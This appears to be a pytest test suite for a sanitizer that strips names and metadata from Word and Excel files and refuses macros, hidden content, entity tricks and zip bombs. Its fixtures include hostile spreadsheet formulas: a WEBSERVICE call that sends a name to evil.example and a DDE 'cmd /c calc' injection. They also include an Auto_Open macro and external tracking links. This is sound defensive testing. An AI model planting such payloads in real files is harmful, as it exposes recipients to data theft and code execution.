"""An Office file is written anew: its text, cells, pictures and charts as before, and no name; bombs are refused."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image as Drawn
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName
from PIL import Image, PngImagePlugin

from liren.foundation.kernel import files as kernel
from liren.foundation.kernel.engine.office import NoOffice, bare_office, packages
from liren.foundation.kernel.engine.pictures import bare_gif, bare_png
from liren.foundation.kernel.errors import BadInput
from tests.make import offices

SECRET = "WANG XIAOLI"
NAME = SECRET.encode()


def refused(content: bytes, kind: str = "docx") -> str:
    with pytest.raises(NoOffice) as caught:
        bare_office(content, kind)
    return caught.value.reason


def drawing() -> bytes:
    """A PNG that says who drew it."""
    said, out = PngImagePlugin.PngInfo(), io.BytesIO()
    said.add_text("Author", SECRET)
    Image.new("RGB", (9, 9), "red").save(out, "PNG", pnginfo=said)
    return out.getvalue()


# --- workbooks ---


def talkative_book() -> bytes:
    """As a spreadsheet program writes it, with a name wherever that puts one."""
    book = openpyxl.Workbook()
    book.properties.creator = book.properties.lastModifiedBy = book.properties.description = SECRET
    book.custom_doc_props.append(StringProperty(name="Owner", value=SECRET))
    book.defined_names["elsewhere"] = DefinedName("elsewhere", attr_text="[1]People!$A$1", comment=SECRET)
    book.defined_names["total"] = DefinedName("total", attr_text="名册!$B$3", comment=SECRET)
    sheet = book.active
    sheet.title = "名册"
    sheet["A1"], sheet["B1"], sheet["A2"], sheet["B2"] = "名称", "座位", "柳荫书屋", 24
    sheet["B3"], sheet["B4"] = "=SUM(B2:B2)", "=SUM([1]People!A:A)"
    sheet["B5"], sheet["B6"] = f'=WEBSERVICE("http://evil.example/{SECRET}"&A2)', "=cmd|'/c calc'!A0"
    sheet["B7"], sheet["B8"] = '=IF(B2>1,"[1]a!|",B2)', "=名 册'!A1+'a\"b'!A1+[1]S!A1+'c\"d'!A1"
    sheet["A1"].comment = Comment(f"{SECRET}: 待核", SECRET)
    sheet["C1"], sheet["C2"] = "网址", "旧址"
    sheet["C1"].hyperlink, sheet["C2"].hyperlink = "https://example.org/a?b=1&c=2", f"file:///C:/Users/{SECRET}/a.xlsx"
    sheet["C2"].value = "旧址"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=2), titles_from_data=True)
    sheet.add_chart(chart, "E5")
    sheet.add_image(Drawn(io.BytesIO(drawing())), "E20")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.requirement("R078")
def test_a_workbook_keeps_its_cells_and_nobody_s_name():
    raw = talkative_book()
    assert sum(NAME in part for part in offices.read(raw).values()) >= 6
    made = bare_office(raw, "xlsx")
    parts = offices.read(made)
    assert [name for name, part in parts.items() if NAME in part or b"evil" in part or b"openpyxl" in part] == []
    assert [name for name in parts if re.search("docProps|omment|custom|vml|external", name)] == []
    book = openpyxl.load_workbook(io.BytesIO(made))
    sheet = book.active
    assert (sheet.title, sheet["A2"].value, sheet["B2"].value, sheet["B3"].value) == (
        "名册",
        "柳荫书屋",
        24,
        "=SUM(B2:B2)",
    )
    assert [sheet[cell].value for cell in ("B4", "B5", "B6", "B8")] == [None] * 4
    assert sheet["B7"].value == '=IF(B2>1,"[1]a!|",B2)'
    assert (sheet["C1"].hyperlink.target, sheet["C2"].hyperlink) == ("https://example.org/a?b=1&c=2", None)
    assert (list(book.defined_names), len(sheet._charts), len(sheet._images)) == (["total"], 1, 1)
    assert bare_office(made, "xlsx") == made


SHEET = """<worksheet xmlns="{x}" xmlns:r="{r}" xr:uid="WANG XIAOLI"
xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision"><sheetPr codeName="WANG XIAOLI"/><sheetData>
<row r="1"><c r="A1" cm="1" vm="2"><f t="shared" ref="A1:A2" si="0">[1]S!A1</f><v>7</v></c></row>
<row r="2"><c r="A2"><f t="shared" si="0"/><v>8</v></c><c r="B2"><f t="shared" ref="B2" si="1">A1*2</f></c></row>
</sheetData>
<protectedRanges><protectedRange name="WANG XIAOLI" sqref="A1"/></protectedRanges>
<scenarios><scenario name="a" user="WANG XIAOLI"/></scenarios>
<customSheetViews><customSheetView guid="WANG XIAOLI"/></customSheetViews>
<pageSetup orientation="landscape" r:id="p1"/><legacyDrawing r:id="c1"/><extLst><ext uri="WANG XIAOLI"/></extLst>
</worksheet>"""


def test_what_offices_write_into_a_workbook_by_the_way_stays_behind():
    more = {
        "xl__worksheets__sheet1.xml": SHEET.format(x=offices.X, r=offices.OFFICE),
        "xl__worksheets___rels__sheet1.xml.rels": offices.ties(
            {"p1": ("printerSettings", "../p.bin"), "c1": ("vmlDrawing", "../c.vml"), "t1": ("threadedComment", "../t")}
        ),
        **{f"xl__{name}": NAME for name in ("p.bin", "c.vml", "t")},
    }
    book = """<fileSharing userName="WANG XIAOLI"/><workbookPr codeName="WANG XIAOLI"/>
<mc:AlternateContent xmlns:mc="m"><x:absPath xmlns:x="x" url="C:\\Users\\WANG XIAOLI\\"/></mc:AlternateContent>
<customWorkbookViews><customWorkbookView name="WANG XIAOLI – Personal View"/></customWorkbookViews>"""
    parts = offices.read(bare_office(offices.workbook(book=book, **more), "xlsx"))
    assert [name for name, part in parts.items() if NAME in part] == []
    assert set(parts) == {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                          "xl/worksheets/sheet1.xml"}  # fmt: skip
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    for kept in ('<c r="A1"><v>7</v></c>', '<c r="A2"><v>8</v></c>', '<f t="shared" ref="B2" si="1">A1*2</f>',
                 '<pageSetup orientation="landscape"/>'):  # fmt: skip
        assert kept in sheet


# --- texts ---

BODY = """<w:p w:rsidR="00WANG XIAOLI" w14:paraId="WANG XIAOLI"><w:pPr><w:rPr><w:ins w:author="WANG XIAOLI"/></w:rPr>
<w:pPrChange w:author="WANG XIAOLI"><w:pPr/></w:pPrChange></w:pPr><w:r><w:t>里仁社区</w:t></w:r>
<w:ins w:id="1" w:author="WANG XIAOLI"
w:date="2026-01-01T00:00:00Z"><w:r><w:t xml:space="preserve"> &amp; 服务站</w:t></w:r></w:ins>
<w:del w:author="WANG XIAOLI"><w:r><w:delText>WANG
XIAOLI</w:delText><w:t>gone</w:t></w:r></w:del><w:commentRangeStart w:id="0"/><w:r><w:commentReference w:id="0"/>
</w:r>
<w:permStart w:ed="WANG XIAOLI"/><w:r><w:rPr><w:vanish/></w:rPr><w:t>WANG XIAOLI</w:t></w:r>
<w:hyperlink r:id="l1"><w:r><w:t>公开</w:t></w:r></w:hyperlink><w:hyperlink r:id="l2"><w:r><w:t>内网</w:t></w:r>
</w:hyperlink></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT
"C:\\\\WANG XIAOLI"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>取来的</w:t></w:r>
<w:r><w:fldChar
w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="WANG XIAOLI"/></w:ffData>
</w:fldChar></w:r><w:r>
<w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
<w:fldSimple w:instr="AUTHOR WANG XIAOLI"><w:r><w:t>某人</w:t>
</w:r></w:fldSimple></w:p>
<w:tbl><w:tr><w:trPr><w:del w:author="WANG XIAOLI"/></w:trPr><w:tc><w:p><w:r><w:t>旧行</w:t></w:r></w:p></w:tc></w:tr>
<w:tr><w:tc><w:p><w:r>
<w:t>新行</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:tbl><w:tr><w:trPr><w:del w:author="WANG XIAOLI"/></w:trPr><w:tc/>
</w:tr></w:tbl>
<w:sdt><w:sdtPr><w:dataBinding w:xpath="WANG XIAOLI"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>填的</w:t></w:r></w:p>
</w:sdtContent></w:sdt>
<w:p><w:r><w:object><v:shape><v:imagedata r:id="i1" o:title="C:\\WANG XIAOLI\\a.png" src="http://evil.example"/>
</v:shape><o:OLEObject
r:id="e1" ProgID="WANG XIAOLI"/></w:object></w:r><w:r><w:drawing><a:cNvPr descr="C:\\WANG XIAOLI\\a.png" name="图"/>
<a:blip r:embed="i1"/>
<a:blip r:link="x1"/></w:drawing></w:r></w:p><w:altChunk r:id="e1"/>
<w:sectPr><w:headerReference w:type="default" r:id="h1"/></w:sectPr>"""


def talkative_text() -> bytes:
    held = {
        "st": ("styles", "styles.xml"), "se": ("settings", "settings.xml"), "h1": ("header", "header9.xml"),
        "i1": ("image", "media/WANG XIAOLI.png"), "l1": ("hyperlink", "https://example.org/"),
        "l2": ("hyperlink", "file:///C:/WANG XIAOLI"), "x1": ("image", "http://evil.example/WANG XIAOLI"),
        "e1": ("oleObject", "embeddings/a.bin"), "c0": ("comments", "comments.xml"),
        "g0": ("glossaryDocument", "g.xml"), "d0": ("customXml", "../customXml/item1.xml"),
        "u0": (f"{offices.OFFICE}/people", "people.xml"),
    }  # fmt: skip
    settings = (
        '<w:attachedTemplate r:id="t1"/><w:rsids><w:rsid w:val="WANG XIAOLI"/></w:rsids><w:defaultTabStop w:val="420"/>'
    )
    settings += '<w:docVars><w:docVar w:name="a" w:val="WANG XIAOLI"/></w:docVars>'
    settings += '<w:mailMerge><w:query w:val="WANG XIAOLI"/></w:mailMerge>'
    parts: dict[str, str | bytes] = {
        "word/document.xml": offices.document(BODY), "word/_rels/document.xml.rels": offices.ties(held),
        "word/styles.xml": offices.document('<w:style w:styleId="a"><w:rsid w:val="WANG XIAOLI"/></w:style>', "styles"),
        "word/settings.xml": offices.document(settings, "settings"),
        "word/_rels/settings.xml.rels": offices.ties({"t1": ("attachedTemplate", "file:///C:/WANG XIAOLI.dotx")}),
        "word/header9.xml": offices.document('<w:p><w:r><w:t>页眉</w:t></w:r></w:p>', "hdr"),
        "word/media/WANG XIAOLI.png": drawing(), "docProps/core.xml": "<c>WANG XIAOLI</c>",
    }  # fmt: skip
    for name in ("comments.xml", "people.xml", "g.xml", "embeddings/a.bin", "../customXml/item1.xml"):
        parts[f"word/{name}".replace("word/../", "")] = f"<a>{SECRET}</a>"
    return offices.package("docx", parts, root={"rId2": ("core-properties", "docProps/core.xml")})


@pytest.mark.requirement("R078")
def test_a_text_keeps_its_words_and_nobody_s_name():
    raw = talkative_text()
    assert sum(NAME in part for part in offices.read(raw).values()) >= 12
    made = bare_office(raw, "docx")
    parts = offices.read(made)
    assert [name for name, part in parts.items() if NAME in part or b"evil" in part or NAME in name.encode()] == []
    assert sorted(name for name in parts if name.startswith("word")) == [
        "word/_rels/document.xml.rels", "word/document.xml", "word/header1.xml", "word/media/image1.png",
        "word/settings.xml", "word/styles.xml"]  # fmt: skip
    body = parts["word/document.xml"].decode()
    words = re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", body)
    assert words == ["里仁社区", " &amp; 服务站", "公开", "内网", "取来的", "某人", "新行", "填的"]
    assert (body.count("<w:fldChar "), body.count("> PAGE </w:instrText>")) == (2, 1)  # a number of the page stays one
    assert (body.count("<w:tbl>"), body.count('mc:Ignorable="w14"')) == (1, 1)
    assert '<a:blip r:embed="i1"/><a:blip/>' in body.replace("\n", "")
    assert parts["word/settings.xml"].count(b"<w:defaultTabStop") == 1
    with Image.open(io.BytesIO(parts["word/media/image1.png"])) as image:
        assert (image.size, image.info) == ((9, 9), {})
    assert bare_office(made, "docx") == made
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert {one.date_time for one in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


STYLES = """<w:docDefaults><w:rPrDefault><w:rPr><w:vanish/><w:sz w:val="21"/></w:rPr></w:rPrDefault></w:docDefaults>
<w:style w:type="paragraph" w:styleId="p"><w:rPr><w:vanish/></w:rPr></w:style>
<w:style w:type="paragraph" w:styleId="q"><w:basedOn w:val="p"/></w:style>
<w:style w:type="character" w:styleId="c"><w:basedOn w:val="c"/><w:rPr><w:vanish w:val="1"/></w:rPr></w:style>
<w:style w:type="character" w:styleId="d"><w:basedOn w:val="c"/><w:rPr><w:vanish w:val="0"/></w:rPr></w:style>
<w:style w:type="character" w:styleId="e"><w:basedOn w:val="f"/></w:style>
<w:style w:type="character" w:styleId="f"><w:basedOn w:val="e"/></w:style>
<w:style w:type="table" w:styleId="t"><w:rPr><w:vanish/></w:rPr></w:style>"""
#: In which paragraph a run stands, its properties, and those it has afterwards; None: what it said is gone.
RUNS = [
    ("p", "", None), ("q", '<w:b/>', None), ("q", '<w:vanish w:val="0"/>', '<w:vanish w:val="0"/>'),
    ("t", '<w:rStyle w:val="d"/>', '<w:rStyle w:val="d"/>'), ("", '<w:rStyle w:val="c"/>', None),
    ("", '<w:rStyle w:val="e"/>', '<w:rStyle w:val="e"/>'), ("", '<w:sz w:val="1"/>', '<w:sz w:val="8"/>'),
    ("", '<w:color w:val="FFFFFF"/>', '<w:color w:val="auto"/>'), ("", '<w:w w:val="1"/>', ""),
    ("", '<w:color w:val="C00000" w:themeColor="background1"/>', '<w:color w:val="auto"/>'),
    ("", '<w:color w:val="7F7F7F" w:themeColor="background1" w:themeShade="80"/>',
     '<w:color w:val="7F7F7F" w:themeColor="background1" w:themeShade="80"/>'),
    ("", '<w:color w:val="FEFEFE"/><w:shd w:fill="203864"/>', '<w:color w:val="FEFEFE"/><w:shd w:fill="203864"/>'),
    ("", "<w14:textFill><w14:noFill/></w14:textFill>", ""),
]  # fmt: skip


@pytest.mark.requirement("R078")
@pytest.mark.parametrize("plain", ["", 'w:default="1" '])
def test_what_a_style_a_colour_or_a_size_hides_is_gone_or_can_be_read(plain):
    """A paragraph without a style takes the plain one."""
    styles = STYLES.replace('w:styleId="p"', f'{plain}w:styleId="p"')
    body = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="{style or "z"}"/></w:pPr><w:r><w:rPr>{facts}</w:rPr><w:t>{at}</w:t></w:r></w:p>'
        for at, (style, facts, _after) in enumerate(RUNS)
    )
    held = {"st": ("styles", "styles.xml")}
    more = {"word__styles.xml": offices.document(styles, "styles")}
    more["word___rels__document.xml.rels"] = offices.ties(held)
    made = bare_office(offices.text(f"{body}<w:p><w:r><w:t>plain</w:t></w:r></w:p>", **more), "docx")
    parts = offices.read(made)
    said = parts["word/document.xml"].decode()
    runs = re.findall(r"<w:r><w:rPr(?:/>|>((?:(?!</w:rPr>).)*)</w:rPr>)<w:t>(\d+)</w:t></w:r>", said)
    assert {int(at): facts for facts, at in runs} == {
        at: after for at, (_style, _facts, after) in enumerate(RUNS) if after is not None
    }
    assert (b"<w:t>plain</w:t>" in parts["word/document.xml"]) == (not plain)
    assert parts["word/styles.xml"].count(b"<w:vanish") == 3  # of the whole text and of a table it is shown
    assert bare_office(made, "docx") == made


def test_cells_in_white_on_nothing_or_in_a_format_that_shows_nothing_can_be_read():
    book = openpyxl.Workbook()
    sheet = book.active
    for at, (colour, ground, number) in enumerate(
        [("FFFFFFFF", None, "General"), ("FFFFFFFF", "FF203864", "General"), ("FF203864", None, ";;;")], 1
    ):
        cell = sheet.cell(at, 1, 9)
        cell.font, cell.number_format = openpyxl.styles.Font(color=colour, bold=True), number
        if ground:
            cell.fill = openpyxl.styles.PatternFill("solid", fgColor=ground)
    out = io.BytesIO()
    book.save(out)
    read = openpyxl.load_workbook(io.BytesIO(bare_office(out.getvalue(), "xlsx"))).active
    seen = [(one.font.color and one.font.color.rgb, one.font.b, one.number_format) for one in read["A"]]
    assert seen == [(None, True, "General"), ("FFFFFFFF", True, "General"), ("FF203864", True, "General")]


# --- what is not taken ---


def with_flag(content: bytes) -> bytes:
    """The same file, said to be locked."""
    raw = bytearray(content)
    for start, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(start)
        while at >= 0:
            raw[at + offset] |= 1
            at = raw.find(start, at + 4)
    return bytes(raw)


PLAIN = offices.document("<w:p><w:r><w:t>a</w:t></w:r></w:p>")
TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
AUTO = '<definedNames><definedName name="Auto_Open" xlm="1">A1</definedName></definedNames>'
UNSEEN = '<sheet name="A" sheetId="1" state="veryHidden" r:id="s1"/>'


def plain(main: str = PLAIN, main_type: str = "", **more: str | bytes) -> bytes:
    """A text beside which there is more."""
    named = {name.replace("__", "/"): content for name, content in more.items()}
    return offices.package("docx", {"word/document.xml": main, **named}, main_type=main_type)


def tied(kind: str, part: str, content: bytes) -> dict[str, str | bytes]:
    """A part beside a text, and the tie that leads to it."""
    return {f"word__{part}": content, "word___rels__document.xml.rels": offices.ties({"i": (kind, part)})}


REFUSED = [
    ("macros", "docx", plain(**{"word__vbaProject.bin": b"x"})),
    ("macros", "docx", plain(main_type=TYPE)),
    ("macros", "docx", plain(**tied(f"{MICROSOFT}/vbaProject", "a.bin", b"x"))),
    ("macros", "xlsx", offices.workbook(
        **{"xl___rels__workbook.xml.rels": offices.ties({"s1": (f"{MICROSOFT}/xlMacrosheet", "m.xml")})})),
    ("macros", "xlsx", offices.workbook(book=AUTO)),
    ("hidden", "xlsx", offices.workbook(sheets=UNSEEN)),
    ("hidden", "xlsx", offices.workbook('<row r="1" hidden="1"><c r="A1"><v>1</v></c></row>')),
    ("hidden", "xlsx", offices.workbook('<row r="1"><c/><c><v>1</v></c></row>',
                                        cols='<col min="2" max="9" width="0"/>')),
    ("hidden", "xlsx", offices.workbook('<row r="1"><c r="AB1"><v>1</v></c></row>',
                                        cols='<col min="28" max="28" hidden="1"/>')),
    ("locked", "docx", with_flag(plain())),
    ("picture", "docx", plain(offices.document('<a:blip r:embed="i"/>'), **tied("image", "a.emf", b"\x01\0\0\0 EMF"))),
    ("broken", "docx", plain("<w:p>")),
    ("broken", "docx", plain()[:-40]),
    ("broken", "docx", plain()[:200]),
    ("broken", "docx", offices.zipped({"word/document.xml": PLAIN})),
    ("broken", "docx", plain(main_type=offices.MAIN["xlsx"][1])),
    ("broken", "docx", plain("<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")),
    ("broken", "docx", plain(**{"word__Document.xml": "<a/>"})),
    ("large", "docx", offices.text("<w:p>" * 300 + "</w:p>" * 300)),
    ("large", "docx", offices.text("<w:p/>" * 5_001)),
    ("large", "docx", offices.text("<w:p a='' b='' c='' d=''/>" * 1_001)),
    ("large", "docx", offices.text(f"<w:p>{' ' * 500_001}</w:p>")),
    ("large", "docx", offices.zipped({f"a{number}": "" for number in range(2_001)})),
]  # fmt: skip


@pytest.mark.parametrize(
    ("reason", "kind", "content"),
    [pytest.param(*one, id=f"{one[0]}-{number}") for number, one in enumerate(REFUSED)],
)
def test_what_is_not_taken(reason, kind, content, monkeypatch):
    monkeypatch.setattr(packages, "MOST_ELEMENTS", 5_000)
    monkeypatch.setattr(packages, "MOST_UNPACKED", 500_000)
    assert refused(content, kind) == reason


def test_hidden_rows_and_columns_with_nothing_in_them_are_no_reason():
    rows = '<row r="1"><c r="A1"><v>1</v></c><c r="C1" s="0"/></row><row r="2" ht="0"/>'
    made = bare_office(offices.workbook(rows, cols='<col min="3" max="16384" hidden="1"/>'), "xlsx")
    assert b'hidden="1"' in offices.read(made)["xl/worksheets/sheet1.xml"]


def test_what_many_pictures_unpack_to_counts_together(monkeypatch):
    monkeypatch.setattr(packages, "MOST_UNPACKED", 5_000)
    ties = {f"i{number}": ("image", f"{number}.png") for number in range(4)}
    body = "".join(f'<w:p><a:blip r:embed="{key}"/></w:p>' for key in ties)
    drawn = {f"word__{number}.png": drawing()[:-12] + bytes(1_500) for number in range(4)}
    assert refused(offices.text(body, **{"word___rels__document.xml.rels": offices.ties(ties)}, **drawn)) == "picture"
    monkeypatch.setattr(packages, "MOST_UNPACKED", 1_500)
    assert refused(offices.text(body, **{"word___rels__document.xml.rels": offices.ties(ties)}, **drawn)) == "large"


def test_each_reason_is_said_in_words():
    said = {kernel._office_refusal(reason) for reason in ("locked", "large", "macros", "hidden", "picture", "broken")}
    assert len(said) == 6
    with pytest.raises(BadInput) as caught:
        kernel.office(b"PK", "docx")
    assert caught.value.next_step


# --- pictures inside ---


def test_pictures_keep_every_point_and_nothing_else():
    out = io.BytesIO()
    frames = [Image.new("P", (8, 8), number) for number in range(3)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], loop=0, comment=NAME, duration=50)
    for raw, bared in ((drawing() + NAME, bare_png), (out.getvalue() + NAME, bare_gif)):
        made = bared(raw)
        assert (NAME in raw, NAME in made) == (True, False)
        with Image.open(io.BytesIO(raw)) as before, Image.open(io.BytesIO(made)) as after:
            assert before.tobytes() == after.tobytes()
            assert getattr(before, "n_frames", 1) == getattr(after, "n_frames", 1)
        for length in range(0, len(made) - 1, 7):
            with pytest.raises(ValueError, match=r"no|whole"):
                bared(made[:length])
